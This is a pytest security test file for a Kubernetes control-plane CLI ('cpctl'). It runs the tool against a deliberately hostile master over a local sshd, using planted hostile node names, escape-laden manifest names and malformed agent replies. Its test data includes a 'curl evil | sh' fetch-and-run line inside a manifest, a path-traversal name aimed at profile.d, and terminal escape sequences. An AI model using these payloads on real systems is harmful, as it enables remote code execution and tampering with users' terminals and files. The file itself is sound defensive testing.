"""Issue #22, "Done when": a compromised master reached over a real sshd (tests/sshfixture.py).

The master (this machine, through sshd on 127.0.0.1) is hostile in every way it controls: its
kubelet's ``--hostname-override``, its host name (set in a UTS namespace of its own by the
``python`` the inventory names), its manifests (file names with escape sequences, shell lines in a
block scalar), and its agent's answers (``tests/hostile_agent.py``: oversized, malformed, deep,
mistyped, hostile names). ``edit``, ``status`` and ``stop`` run against it, and:

* every failure is that host's, one line, with a documented exit code, and the other host goes on;
* no escape sequence reaches the terminal (stdout and stderr);
* nothing is written outside cpctl's own dirs: on the operator's side (HOME, TMPDIR, the working
  directory) nothing at all, on the master's side only its manifests dir and its state dir.
"""

from __future__ import annotations

import os
import sys
from typing import Any, Dict, List, Optional

import pytest

from tests.coreutil import MANIFESTS, NodeDirs, snapshot
from tests.remoteutil import Cli, clean_env, write_inventory
from tests.sshfixture import SSHServer

pytestmark = pytest.mark.timeout(300)          # the lab tier: a real sshd on 127.0.0.1 (tests/conftest.py)

ESC = "\x1b]0;owned\x07\x1b[2J"
HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))   # tests/, where hostile_agent.py is
SHELL_MANIFEST = MANIFESTS["kube-scheduler.yaml"].replace(
    b"kind: Pod\n", b"kind: Pod\n# touch /tmp/pwned; curl evil | sh\n", 1)


class Master:
    """One master's files: manifests and state dirs, its kubelet dir, and what lies next to the
    manifests dir (admin.conf, pki/ca.crt)."""

    def __init__(self, root: str, name: str) -> None:
        self.name = name
        self.root = os.path.join(root, name)
        os.makedirs(self.root)
        self.dirs = NodeDirs(os.path.join(self.root, "kubernetes"))
        self.kubelet = os.path.join(self.root, "kubelet")
        os.makedirs(self.kubelet)
        os.makedirs(os.path.join(self.dirs.root, "pki"))
        for path in ("admin.conf", "pki/ca.crt"):
            with open(os.path.join(self.dirs.root, path), "w") as handle:
                handle.write("precious\n")

    def kubelet_flags(self, text: str) -> None:
        with open(os.path.join(self.kubelet, "kubeadm-flags.env"), "w") as handle:
            handle.write('KUBELET_KUBEADM_ARGS="%s"\n' % text)

    def plant(self, name: str, data: bytes) -> None:
        with open(os.path.join(self.dirs.manifests, name), "wb") as handle:
            handle.write(data)

    def vars(self, python: Optional[str] = None, node_name: Optional[str] = None) -> Dict[str, Any]:
        found: Dict[str, Any] = {"host": "master", "manifests_dir": self.dirs.manifests, "state_dir": self.dirs.state,
                                 "kubelet_dir": self.kubelet, "kubeconfig": os.path.join(self.root, "none.conf")}
        if python:
            found["python"] = python
        if node_name:
            found["node_name"] = node_name
        return found

    def outside_cpctl(self) -> dict:
        """Everything of this master except its manifests dir and its state dir."""
        snap = snapshot(self.root)
        return {p: v for p, v in snap.items()
                if not (p + "/").startswith((self.dirs.manifests + "/", self.dirs.state + "/"))}


class Operator:
    """The operator's side: a clean HOME, a private TMPDIR and working directory, an editor."""

    def __init__(self, sshd: SSHServer, root: str) -> None:
        self.root = root
        self.home, self.tmp, self.cwd = (os.path.join(root, d) for d in ("home", "tmp", "cwd"))
        for path in (self.tmp, self.cwd):
            os.makedirs(path)
        self.editor = os.path.join(root, "editor.sh")
        with open(self.editor, "w") as handle:
            handle.write("#!/bin/sh\nsed -i 's/leader-elect=true/leader-elect=false/' \"$1\"\n")
        os.chmod(self.editor, 0o755)
        env = clean_env(self.home, TMPDIR=self.tmp, EDITOR=self.editor, CPCTL_PROBE="none")
        self.cli = Cli(sshd.ssh_config, sshd.known_hosts, env)

    def snap(self) -> dict:
        return snapshot(self.home, self.tmp, self.cwd)

    def run(self, inventory: str, *args: str, rc: Optional[int] = None) -> Any:
        import subprocess
        proc = subprocess.run(self.cli.argv("-i", inventory, "--keep-going", *args), env=self.cli.env, cwd=self.cwd,
                              capture_output=True, text=True, timeout=240, stdin=subprocess.DEVNULL)
        text = proc.stdout + proc.stderr
        assert "Traceback" not in text, text
        assert "\x1b" not in text and "\x07" not in text, "an escape sequence reached the terminal: %r" % text
        if rc is not None:
            assert proc.returncode == rc, (args, proc.returncode, text)
        if proc.returncode:     # one failure line (edit shows its diff and warnings on stderr before it)
            lines = proc.stderr.splitlines()
            assert lines and lines[-1].startswith(("cpctl: ", '{"error"')), text
            assert len(lines) == 1 or "edit" in args, text
        return proc


def _uts_python(root: str, hostname: str) -> str:
    """A ``python`` for the inventory that runs the agent with ``hostname`` as the master's host
    name (its own UTS namespace: this machine's name stays)."""
    path = os.path.join(root, "python-hostile-hostname")
    code = ("import os, socket, sys; socket.sethostname(%r); os.execv(sys.executable, [sys.executable] + sys.argv[1:])"
            % hostname.encode("latin-1"))
    with open(path, "w") as handle:
        handle.write("#!/bin/sh\nexec unshare --uts %s -c %s \"$@\"\n" % (sys.executable, _quote(code)))
    os.chmod(path, 0o755)
    return path


def _agent_python(root: str, mode: str, target: int) -> str:
    """A ``python`` for the inventory whose agent answers request ``target`` as ``mode`` says."""
    path = os.path.join(root, "python-%s-%d" % (mode, target))
    with open(path, "w") as handle:
        handle.write("#!/bin/sh\nexec %s %s %s %d \"$@\"\n" % (sys.executable, os.path.join(HERE, "hostile_agent.py"),
                                                               mode, target))
    os.chmod(path, 0o755)
    return path


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


@pytest.fixture
def world(sshd: SSHServer, tmp_path: Any) -> Any:
    if not os.path.exists("/usr/bin/unshare"):
        pytest.skip("unshare(1) is needed for a master with its own host name")
    return str(tmp_path)


COMMANDS: List[List[str]] = [["status"], ["-o", "json", "status"], ["edit", "scheduler", "--yes"],
                             ["stop", "scheduler"]]


def _hosts(proc: Any) -> List[str]:
    return [line for line in proc.stdout.splitlines() if line.startswith("== ")]


@pytest.mark.parametrize("how", ["hostname-override", "host name"])
def test_a_master_with_a_hostile_node_name_is_refused_and_the_others_go_on(sshd: SSHServer, world: str,
                                                                            how: str) -> None:
    operator = Operator(sshd, os.path.join(world, "operator"))
    evil, good = Master(world, "evil"), Master(world, "good")
    name = "../../%s/profile.d/x" % operator.tmp.strip("/") + ESC
    python = None
    if how == "hostname-override":
        evil.kubelet_flags("--hostname-override=%s" % name)
    else:
        python = _uts_python(world, "../../x" + ESC[:8])
    inventory = write_inventory(os.path.join(world, "inv.yaml"),
                                {"evil": evil.vars(python), "good": good.vars(node_name="good")})
    before_operator, before_evil = operator.snap(), evil.outside_cpctl()
    evil_manifests = snapshot(evil.dirs.manifests)
    for args in COMMANDS:
        proc = operator.run(inventory, *args, rc=4)
        assert "evil" in proc.stderr and "not a valid Kubernetes node name" in proc.stderr, proc.stderr
        if args[0] != "-o":
            assert "== evil: failed" in proc.stdout and ("== good: ok ==" in proc.stdout
                                                           or "== good: changed ==" in proc.stdout), proc.stdout
    assert snapshot(evil.dirs.manifests) == evil_manifests        # nothing changed on the hostile master
    assert not os.path.exists(evil.dirs.state)
    assert not os.path.exists(os.path.join(good.dirs.manifests, "kube-scheduler.yaml"))   # the good one went on
    assert operator.snap() == before_operator and evil.outside_cpctl() == before_evil


def test_hostile_manifests_are_shown_escaped_and_edited_in_private(sshd: SSHServer, world: str) -> None:
    operator = Operator(sshd, os.path.join(world, "operator"))
    evil = Master(world, "evil")
    evil.kubelet_flags("--hostname-override=evil-master")
    evil.plant("ctl%s.yaml" % ESC, MANIFESTS["kube-scheduler.yaml"].replace(b"kube-scheduler", b"ctl"))
    evil.plant("kube-scheduler.yaml", SHELL_MANIFEST)
    inventory = write_inventory(os.path.join(world, "inv.yaml"), {"evil": evil.vars()})
    before_operator, before_evil = operator.snap(), evil.outside_cpctl()
    status = operator.run(inventory, "status")
    assert "\\x1b" in status.stdout + status.stderr
    os.remove(os.path.join(evil.dirs.manifests, "ctl%s.yaml" % ESC))
    operator.run(inventory, "edit", "scheduler", "--yes", rc=0)
    with open(os.path.join(evil.dirs.manifests, "kube-scheduler.yaml"), "rb") as handle:
        assert b"leader-elect=false" in handle.read()
    operator.run(inventory, "stop", "scheduler", rc=0)
    assert operator.snap() == before_operator and evil.outside_cpctl() == before_evil


AGENT_MODES = ["oversized", "notjson", "list", "deep", "nokeys", "wrongtype", "badname", "escape"]


@pytest.mark.parametrize("mode", AGENT_MODES)
def test_a_compromised_agent_is_that_hosts_error(sshd: SSHServer, world: str, mode: str) -> None:
    operator = Operator(sshd, os.path.join(world, "operator"))
    evil, good = Master(world, "evil"), Master(world, "good")
    target = -1 if mode in ("badname", "escape") else 0          # names and strings: in every answer
    inventory = write_inventory(os.path.join(world, "inv.yaml"), {
        "evil": evil.vars(_agent_python(world, mode, target), node_name="evil"), "good": good.vars(node_name="good")})
    before_operator, before_evil = operator.snap(), evil.outside_cpctl()
    for args in COMMANDS:
        proc = operator.run(inventory, *args)
        if mode == "escape":            # odd but possible answers: shown escaped, or refused
            assert proc.returncode in (0, 4, 7, 8), (mode, args, proc.returncode, proc.stderr)
            continue
        assert proc.returncode == 8, (mode, args, proc.returncode, proc.stderr)
        assert "evil: " in proc.stderr and ": bad reply from the agent (" in proc.stderr
        if args[0] != "-o":
            assert "== evil: " in proc.stdout and "== good: " in proc.stdout and "== good: failed" not in proc.stdout
    assert not os.path.exists(os.path.join(good.dirs.manifests, "kube-scheduler.yaml"))   # the good one went on
    assert operator.snap() == before_operator and evil.outside_cpctl() == before_evil
